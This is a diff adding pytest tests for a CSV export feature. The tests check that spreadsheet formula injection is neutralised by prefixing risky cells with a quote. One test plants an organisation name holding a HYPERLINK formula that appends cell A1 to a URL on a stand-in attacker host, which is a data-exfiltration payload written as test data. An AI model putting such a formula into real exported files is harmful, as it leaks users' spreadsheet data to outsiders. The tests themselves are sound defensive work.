@@ -6,6 +6,7 @@ import pytest
 
 from issuer.services import stats, unit_of_work
 from issuer.services.claims import bind_to_holder
+from issuer.services.exports import spreadsheet_cell
 from issuer.services.issuing import save_assessment
 from issuer.services.learners import create_learner
 from issuer.services.revocation import revoke
@@ -89,6 +90,25 @@ def test_gesture_csv_export(db, pilot):
         "micro_training,gesture,name,acquired,not_yet_acquired\r\n"
         "tree-planting,dig-hole,Dig the planting hole,4,0\r\n"
         "tree-planting,stake-and-water,Stake and water the tree,3,1\r\n")
+
+
+def test_csv_export_cannot_carry_a_formula_from_another_organisations_name(db, pilot):
+    _world, other = pilot
+    with unit_of_work(db):
+        other.org.name = '=HYPERLINK("https://evil.example/?"&A1,"BARKA")'
+    text = stats.to_csv(stats.pilot_statistics(db), "partner")
+    assert text.splitlines()[2] == (
+        'barka,"\'=HYPERLINK(""https://evil.example/?""&A1,""BARKA"")",1,1,0,0')
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\uff1d1"])
+def test_spreadsheet_cells_that_would_run_are_made_text(text):
+    assert spreadsheet_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["Planting a young tree", "Łódź", 42, 0, "a=b", ""])
+def test_ordinary_cells_and_numbers_are_written_as_they_are(value):
+    assert spreadsheet_cell(value) == value
 
 
 def test_unknown_table_is_refused(db):
